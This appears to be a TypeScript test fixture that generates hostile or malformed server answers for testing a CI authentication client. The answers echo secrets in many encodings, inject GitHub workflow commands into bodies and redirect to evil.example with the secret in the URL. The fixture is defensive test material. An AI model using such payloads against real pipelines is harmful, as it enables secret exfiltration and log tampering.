// What a hostile or broken server may answer: statuses and bodies that repeat the caller's secrets in every form, and answers that are
// none. A function of the secrets, because the server knows them.

import type { FaultKind } from '../../emulator/faults.ts';
import { base64, ENCODINGS } from '../text/encodings.ts';

export interface HostileAnswer {
  name: string;
  fault: FaultKind;
}

const STATUSES = [
  101, 200, 201, 202, 203, 206, 226, 300, 301, 302, 303, 304, 305, 307, 308, 399, 400, 401, 402, 403, 404, 405, 406,
  407, 408, 409, 410, 411, 412, 413, 414, 415, 416, 417, 418, 421, 422, 423, 425, 426, 428, 429, 431, 451, 499, 500,
  501, 502, 503, 504, 505, 511, 599, 600, 999,
];

const BODIES: Record<string, string> = {
  empty: '',
  null: 'null',
  'a list': '[]',
  'an empty object': '{}',
  'a text': '"two words"',
  'a number': '7',
  'another token type': '{"token":{"x":1},"access_token":7,"value":[]}',
  'an empty token': '{"token":"","value":"","access_token":""}',
  'a token of several lines': '{"token":"a\\n::error::b","value":"a\\n::error::b"}',
  'a token that is not a JWT': '{"token":"nonsense","value":"nonsense"}',
  HTML: '<html><body>::error::Sign in to the proxy ##[error]</body></html>',
  'half an object': '{"token":"eyJ',
  'a byte order mark': '\ufeff{"token":"x"}',
  'very deep JSON': '['.repeat(50_000),
  'workflow commands': '::stop-commands::x\n::add-mask::y\n##[group]z',
};

/** @param secrets of the caller; the first one is its main secret */
export function hostileAnswers(secrets: readonly string[], clientId: string): HostileAnswer[] {
  const echo = echoOf(secrets, clientId);
  const headers = { 'opc-request-id': secrets[0] ?? '', 'x-oracle-dms-ecid': secrets[0] ?? '', 'retry-after': '0' };
  const body = { error: echo, error_description: echo, code: echo, message: echo, detail: echo };
  const location = `https://evil.example/?secret=${encodeURIComponent(secrets[0] ?? '')}`;
  return [
    ...STATUSES.map((status) => ({
      name: `status ${status}, repeating the secrets`,
      fault: { kind: 'status' as const, status, headers: { ...headers, location }, body },
    })),
    ...Object.entries(BODIES).map(([name, text]) => ({
      name: `200 with ${name}`,
      fault: { kind: 'status' as const, status: 200, headers: { 'content-type': 'application/json' }, body: text },
    })),
    { name: 'no answer', fault: { kind: 'hang' } },
    { name: 'half an answer', fault: { kind: 'hang', at: 'during' } },
    { name: 'a reset', fault: { kind: 'reset' } },
    { name: 'a reset during the answer', fault: { kind: 'reset', at: 'during' } },
    { name: 'an incomplete answer', fault: { kind: 'truncated' } },
    { name: 'an endless answer', fault: { kind: 'oversized', bytes: 4 * 1024 * 1024 } },
    { name: 'a redirect to nowhere', fault: { kind: 'redirect', location: ':::' } },
  ];
}

/** The forms in which a server can repeat a secret. */
export function formsOf(secret: string, clientId: string): string[] {
  return [...Object.values(ENCODINGS).map((encode) => encode(secret)), base64(`${clientId}:${secret}`)];
}

function echoOf(secrets: readonly string[], clientId: string): string {
  const pem = `-----BEGIN PRIVATE KEY-----\n${'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC'.repeat(2)}\n-----END PRIVATE KEY-----`;
  return `you sent\n::error::${secrets.flatMap((secret) => formsOf(secret, clientId)).join(' ')} ##[error] ${pem}`.slice(
    0,
    9_000,
  );
}
